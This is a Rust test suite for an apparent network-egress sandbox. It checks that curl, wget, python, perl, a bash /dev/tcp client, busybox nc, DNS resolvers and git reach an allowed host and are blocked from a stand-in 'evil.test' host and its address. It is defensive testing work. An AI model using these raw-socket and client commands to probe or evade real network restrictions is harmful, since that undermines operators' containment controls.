//! Real clients, unchanged: what each does with an allowed name and with a denied one.

use lab::{EVIL, Lab, need};

use crate::agents::repository;

/// Clients as shell commands over a URL's host and path; each ends with 0 when it got its answer.
const HTTP: [(&str, &str); 5] = [
    ("curl", "curl -fsS -m5 -o /dev/null http://HOST/PATH"),
    ("wget", "wget -q -T5 -t1 -O /dev/null http://HOST/PATH"),
    (
        "python3",
        "/usr/bin/python3 -I -c \"import urllib.request as u; u.urlopen('http://HOST/PATH', timeout=5).read()\"",
    ),
    ("bash", "bash -c 'exec 3<>/dev/tcp/HOST/80; printf \"GET /PATH HTTP/1.0\\r\\n\\r\\n\" >&3; grep -q sink <&3'"),
    ("perl", "perl -MHTTP::Tiny -e 'exit !HTTP::Tiny->new(timeout => 5)->get(\"http://HOST/PATH\")->{success}'"),
];

#[test]
fn http_clients() {
    let lab = Lab::new();
    for (name, _) in HTTP {
        if name != "python3" {
            need(name);
        }
    }
    for (shape, run) in lab.shapes() {
        let script = HTTP
            .map(|(name, client)| {
                let to = |host: &str, path: String| client.replace("HOST", host).replace("PATH", &path);
                format!(
                    "{}; echo {name}-ok=$?; {} 2>/dev/null; echo {name}-evil=$?; {} 2>/dev/null; echo {name}-literal=$?\n",
                    to("ok.test", lab.token(&format!("{shape}-{name}"))),
                    to("evil.test", lab.token("evil")),
                    to(&EVIL.to_string(), lab.token("evil"))
                )
            })
            .concat();
        let output = run.flags("--allow ok.test").sh(&script).output();
        for (name, _) in HTTP {
            assert_eq!(output.step(&format!("{name}-ok")), 0, "{name}: {output}");
            assert_ne!(output.step(&format!("{name}-evil")), 0, "{name}: {output}");
            assert_ne!(output.step(&format!("{name}-literal")), 0, "{name}: {output}");
            lab.expect_hits(&lab.token(&format!("{shape}-{name}")), 1);
        }
    }
    lab.expect_silence(EVIL);
    let control: String = HTTP
        .iter()
        .map(|(_, client)| client.replace("HOST", "198.51.100.20").replace("PATH", &lab.token("control")) + "\n")
        .collect();
    lab.unconfined(&format!("set -e\n{control}")).exits(0);
    lab.expect_hits(&lab.token("control"), HTTP.len());
}

/// Stub resolvers with code of their own, each asked for an allowed name.
const RESOLVERS: [(&str, &str); 5] = [
    ("getent", "getent ahosts NAME"),
    ("dig", "dig +time=2 +tries=1 +short NAME A"),
    ("dig-tcp", "dig +tcp +time=2 +tries=1 +short NAME A"),
    ("nslookup", "nslookup -timeout=2 NAME"),
    ("busybox", "busybox nslookup NAME"),
];

#[test]
fn resolvers() {
    for tool in ["dig", "getent", "nslookup", "busybox"] {
        need(tool);
    }
    let lab = Lab::new();
    for (shape, run) in lab.shapes() {
        let script = RESOLVERS
            .map(|(name, command)| {
                let (ok, evil) = (command.replace("NAME", "ok.test"), command.replace("NAME", "evil.test"));
                format!("{ok} | grep -q 198.51.100.10; echo {name}-ok=$?; {evil} 2>&1 | grep -q 198.51.100.20; echo {name}-evil=$?\n")
            })
            .concat();
        let output = run.flags("--allow ok.test").sh(&script).output();
        for (name, _) in RESOLVERS {
            assert_eq!(output.step(&format!("{name}-ok")), 0, "{shape} {name}: {output}");
            assert_eq!(output.step(&format!("{name}-evil")), 1, "{shape} {name}: {output}");
        }
    }
    let asked = lab.zone().queries();
    assert!(!asked.is_empty() && asked.iter().all(|query| query.name == "ok.test"), "{asked:?}");
    lab.unconfined(&format!("dig @{} +short evil.test | grep -q {EVIL}", lab::DNS)).exits(0);
}

#[test]
fn busybox_fetches_by_address() {
    need("busybox");
    let lab = Lab::new();
    let token = lab.token("busybox");
    // With nc, because wget of the static build crashes in its own C library before it connects.
    let get = |address: &str| {
        format!("printf 'GET /{token} HTTP/1.0\\r\\n\\r\\n' | busybox nc -w 5 {address} 80 | grep -q sink")
    };
    let script = format!("{}; echo ok=$?; {}; echo evil=$?", get("198.51.100.10"), get("198.51.100.20"));
    let output = lab.sh("--allow 198.51.100.10", &script);
    assert!(output.step("ok") == 0 && output.step("evil") != 0, "{output}");
    lab.expect_hits(&token, 1);
    lab.expect_silence(EVIL);
    let control = lab.unconfined(&script);
    assert!(control.step("ok") == 0 && control.step("evil") == 0, "{control}");
}

#[test]
fn git_over_http() {
    let lab = Lab::new();
    repository(&lab);
    let clone = "export HOME=$PWD GIT_CONFIG_NOSYSTEM=1 GIT_TERMINAL_PROMPT=0
        git clone -q http://ok.test/www/repo.git one && cat one/readme; echo ok=$?
        git clone -q http://evil.test/www/repo.git two; echo evil=$?
        git clone -q http://198.51.100.20/www/repo.git three; echo literal=$?";
    let output = lab.sh("--allow ok.test", clone);
    assert_eq!((output.step("ok"), output.step("evil"), output.step("literal")), (0, 128, 128), "{output}");
    output.says("hello");
    lab.expect_silence(EVIL);
    lab.unconfined("HOME=$PWD git clone -q http://198.51.100.20/www/repo.git four && cat four/readme")
        .exits(0)
        .says("hello");
}

#[test]
fn clients_behind_squid() {
    let lab = Lab::new();
    repository(&lab);
    let _squid = lab.squid(&["ok.test"]);
    let (token, certificate) = (lab.token("behind"), lab.https().display());
    let clients = format!(
        "export HOME=$PWD GIT_CONFIG_NOSYSTEM=1 http_proxy=http://{0}:3128 https_proxy=http://{0}:3128
        curl -fsS -m9 http://ok.test/{token}-curl; echo curl=$?
        curl -fsS -m9 --cacert {certificate} https://ok.test/{token}-tls; echo tls=$?
        wget -q -T9 -t1 -O /dev/null http://ok.test/{token}-wget; echo wget=$?
        /usr/bin/python3 -I -c \"import urllib.request as u; u.urlopen('http://ok.test/{token}-python', timeout=9).read()\"; echo python=$?
        git clone -q http://ok.test/www/repo.git behind; echo git=$?
        curl -fsS -m9 http://evil.test/{token}; echo evil=$?
        unset http_proxy; curl -fsS -m3 http://ok.test/{token}; echo direct=$?",
        lab::PROXY
    );
    let output = lab.sh(&format!("--proxy {}:3128", lab::PROXY), &clients);
    for step in ["curl", "tls", "wget", "python", "git"] {
        assert_eq!(output.step(step), 0, "{step}: {output}");
    }
    assert!(output.step("evil") != 0 && output.step("direct") != 0, "{output}");
    let hits = lab.expect_hits(&token, 4);
    assert!(hits.iter().all(|hit| hit.src.ip() == lab::PROXY), "{hits:?}");
    lab.expect_silence(EVIL);
}
